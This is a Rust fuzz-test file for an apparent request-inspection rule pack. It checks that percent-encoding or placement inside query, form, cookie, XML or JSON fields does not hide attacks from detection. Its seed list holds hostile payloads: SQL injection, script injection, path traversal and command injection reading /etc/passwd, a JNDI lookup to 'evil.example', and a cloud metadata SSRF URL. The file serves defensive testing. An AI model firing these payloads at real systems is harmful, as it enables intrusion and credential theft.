use std::sync::LazyLock;

use lockgate_fuzzing::near;

use super::*;

const SEEDS: &[&str] = &[
    "1' OR '1'='1' --",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "; cat /etc/passwd | sh",
    "${jndi:ldap://evil.example/a}",
    "http://169.254.169.254/latest/meta-data/",
    "O'Brien & Sons, 100% cotton",
];
const WORDS: &[&str] = &[
    "%27",
    "%2527",
    "%u0027",
    "&#39;",
    "&lt;",
    "\\u0027",
    "\\x27",
    "%c0%ae",
    "%",
    "&",
    "\\",
    "=",
    ";",
    "+",
    "'",
    "\"",
    "--",
    "/*",
    "*/",
    "UNION SELECT",
    "${",
    "}",
    "lower:",
    "..",
    "/",
    "<",
    ">",
    "javascript:",
    "\0",
    "\u{ff07}",
    "\u{ff}",
    "|",
    "$(",
    "`",
    "http://",
    "[::1]",
];

static PACK: LazyLock<RulePack> =
    LazyLock::new(|| RulePack::own(&PackSettings::default()).unwrap());

fn classes(location: Location, value: &[u8]) -> Vec<Class> {
    let mut inspection = PACK.begin();
    let _ = inspection.field(&Field::new(location, "name", value));
    let findings = inspection.finish().unwrap();
    assert!(findings.len() <= FINDINGS_MAX);
    findings.into_iter().map(|finding| finding.class).collect()
}

#[test]
fn an_encoding_hides_nothing_that_is_found_plain() {
    bolero::check!()
        .with_iterations(1_000)
        .with_generator(near(SEEDS, WORDS))
        .for_each(|input| {
            let views = decode::views(Location::FormValue, input);
            assert!(views.len() <= DECODING_PASSES_MAX + 2);
            assert!(views.iter().all(|(_, view)| view.len() <= input.len()));
            let plain = classes(Location::JsonValue, input);
            let layers = views
                .iter()
                .map(|(layers, _)| usize::from(*layers))
                .max()
                .unwrap_or(0);
            if layers + 1 > DECODING_PASSES_MAX {
                return;
            }
            let encoded: String = input.iter().map(|byte| format!("%{byte:02X}")).collect();
            let hidden = classes(Location::JsonValue, encoded.as_bytes());
            assert!(
                plain.iter().all(|class| hidden.contains(class)),
                "{plain:?} {hidden:?}"
            );
        });
}

#[test]
fn a_value_is_found_wherever_it_stands_in_a_message() {
    bolero::check!()
        .with_iterations(1_000)
        .with_generator(near(SEEDS, WORDS))
        .for_each(|input| {
            let _ = show_query(&mut *PACK.begin(), input);
            let _ = show_form(&mut *PACK.begin(), input);
            let _ = show_cookies(&mut *PACK.begin(), input);
            let _ = show_xml(&mut *PACK.begin(), input);
            let text = input.text();
            let plain = classes(Location::JsonValue, text.as_bytes());
            let mut inspection = PACK.begin();
            let json = serde_json::json!({ "a": [text] }).to_string();
            show_json(&mut *inspection, json.as_bytes()).unwrap();
            let found = inspection.finish().unwrap();
            assert!(
                plain
                    .iter()
                    .all(|class| found.iter().any(|each| each.class == *class))
            );
        });
}
